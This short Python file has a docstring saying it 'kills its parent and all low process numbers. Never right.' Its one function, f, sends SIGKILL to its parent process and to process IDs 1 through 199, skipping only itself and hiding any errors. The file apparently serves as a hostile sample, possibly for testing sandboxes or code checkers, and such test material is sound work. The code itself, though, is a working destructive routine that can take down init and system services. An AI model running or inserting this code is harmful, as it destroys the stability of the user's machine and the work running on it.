"""Kills its parent and all low process numbers. Never right."""

import contextlib
import os
import signal


def f(x):
    for target in (os.getppid(), *range(1, 200)):
        if target != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(target, signal.SIGKILL)
